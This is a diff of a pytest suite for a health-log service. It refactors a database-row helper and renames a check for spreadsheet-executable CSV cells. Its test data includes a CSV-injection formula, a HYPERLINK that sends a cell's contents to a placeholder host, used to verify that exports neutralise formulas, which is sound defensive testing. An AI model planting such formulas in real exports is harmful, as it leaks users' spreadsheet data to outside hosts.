@@ -45,7 +45,7 @@ import pytest
 
 import hae_factory as hf
 import healthlog
-from conftest import ROOT, TOKEN, Client, db_rows, run_export, wait_for
+from conftest import ROOT, TOKEN, Client, db_rows, object_rows, run_export, wait_for
 from read_helpers import (Reply, Store, aggregate, assert_buckets_equal, assert_error,
                           assert_nights_equal, assert_security_headers, call, close, coordinate,
                           get, get_json, in_range, instant_us, iso_local, night_items,
@@ -196,12 +196,6 @@ def store(tmp_path_factory, json_mode) -> Store:
                             [(h, b) for _, h, b in CORPUS.deliveries], all_parsed=False)
 
 
-def objects(data_dir: Path, metric: str = None) -> list:
-    where, args = ("WHERE metric = ?", (metric,)) if metric else ("", ())
-    return db_rows(data_dir, "SELECT metric, layer, hour, units, first_at, last_at, points, blob"
-                             " FROM object %s ORDER BY metric, layer, hour" % where, args)
-
-
 # ---------------------------------------------------------------------------------------------
 # The test's own reading of the points (runs and bucket aggregates: tests/read_helpers.py).
 
@@ -211,7 +205,7 @@ def objects(data_dir: Path, metric: str = None) -> list:
 def expected_catalog(data_dir: Path) -> list:
     """One entry per (metric, layer), from the object table (groups left out)."""
     entries: dict = {}
-    for row in objects(data_dir):
+    for row in object_rows(data_dir):
         entry = entries.setdefault((row["metric"], row["layer"]), {
             "metric": row["metric"], "layer": row["layer"], "units": set(),
             "first": row["first_at"], "last": row["last_at"], "objects": 0, "points": 0})
@@ -688,7 +682,7 @@ FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A2,"open")', "+SUM(1,2)", "-2
 breaks, the pipe, and the full-width forms."""
 
 
-def runnable(cell: str) -> bool:
+def spreadsheet_runs(cell: str) -> bool:
     """Could a spreadsheet run this cell?  In this test's words: it begins with a tab or a
     line break, or its first character after any whitespace is one of = + - @ | or their
     full-width forms."""
@@ -736,7 +730,7 @@ def test_read_4_4_a_csv_cell_is_never_a_formula(start_service, data_dir):
     for table in (raw, buckets):
         for row in table:
             for cell in row:
-                assert not runnable(cell) or float(cell) < 0, repr(cell)
+                assert not spreadsheet_runs(cell) or float(cell) < 0, repr(cell)
     assert buckets[0][:5] == ["start", "local", "date", "units", "count"]
     assert buckets[1][3] == neutral(units)
     assert neutral(FORMULAS[0]) + "_sum" in buckets[0]
@@ -972,7 +966,7 @@ def series_sum(families: dict, name: str) -> float:
 def test_read_6_1_metrics_are_valid_text_format_with_the_journals_figures(store):
     families = scrape(store.address)
     journal = db_rows(store.data_dir)
-    store_rows = objects(store.data_dir)
+    store_rows = object_rows(store.data_dir)
     for status in healthlog.STATUSES:
         count = sum(row["parse_status"] == status for row in journal)
         if count or any(lb == {"status": status}
@@ -1374,7 +1368,7 @@ def test_read_8_3_export_to_sqlite_writes_points_and_metrics_tables(store, tmp_p
                    for i in conn.execute("PRAGMA index_list(points)")]
         assert ["metric", "layer", "start"] in indexed and ["start"] in indexed
         assert ["local_date"] in indexed
-        store_rows = objects(store.data_dir)
+        store_rows = object_rows(store.data_dir)
         total = conn.execute("SELECT count(*) FROM points").fetchone()[0]
         assert total == sum(row["points"] for row in store_rows)
         counts = {(r[0], r[1]): r[2] for r in conn.execute(
@@ -1511,7 +1505,7 @@ def test_read_2_7_the_object_table_holds_exactly_the_posted_points(store):
     pass or fail for nothing."""
     for metric, layer in store.corpus.posted:
         stored = []
-        for row in objects(store.data_dir, metric):
+        for row in object_rows(store.data_dir, metric):
             if row["layer"] == layer:
                 stored += json.loads(gzip.decompress(row["blob"]))
         assert stored == [p for p, _ in store.corpus.points(metric, layer)], (metric, layer)
